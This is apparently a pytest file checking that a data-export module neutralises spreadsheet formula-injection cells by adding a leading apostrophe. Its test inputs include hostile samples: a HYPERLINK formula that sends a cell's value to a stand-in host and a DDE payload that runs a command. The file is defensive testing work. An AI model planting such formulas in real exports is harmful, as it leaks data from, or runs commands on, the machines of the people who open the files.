"""Cells a spreadsheet would run as formulas get a leading apostrophe (OWASP's CSV injection rule)."""

import pandas as pd
import pytest

from core.export import neutralise_formula, neutralise_frame, neutralise_rows


@pytest.mark.parametrize("value", ['=HYPERLINK("http://x.example/?d="&A1,"Ver")', "+1+1", "-2+3", "@SUM(A1:A9)",
                                   "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=1", "-12.50", "+3"])
def test_formula_cells_get_an_apostrophe(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana López", "ana@empresa.mx", "—", "", 5, -3.5,
                                   None, True])
def test_plain_text_numbers_and_non_text_stay(value):
    assert neutralise_formula(value) == value


def test_rows_and_frames_are_neutralised_cell_by_cell():
    rows = [{"Nombre": "=HYPERLINK(\"http://x\")", "Filas": -3, "Activa": True}]
    assert neutralise_rows(rows) == [{"Nombre": "'=HYPERLINK(\"http://x\")", "Filas": -3, "Activa": True}]
    frame = pd.DataFrame({"clave": ["A-1", "@x", None], "cantidad": [-1, 2, 3], "=col": ["a", "b", "c"]})
    out = neutralise_frame(frame)
    assert out["clave"].tolist()[:2] == ["A-1", "'@x"] and pd.isna(out["clave"].tolist()[2])
    assert out["cantidad"].tolist() == [-1, 2, 3]
    assert list(out.columns) == ["clave", "cantidad", "'=col"]
    assert frame["clave"].tolist()[1] == "@x"  # the caller's frame is left as it was
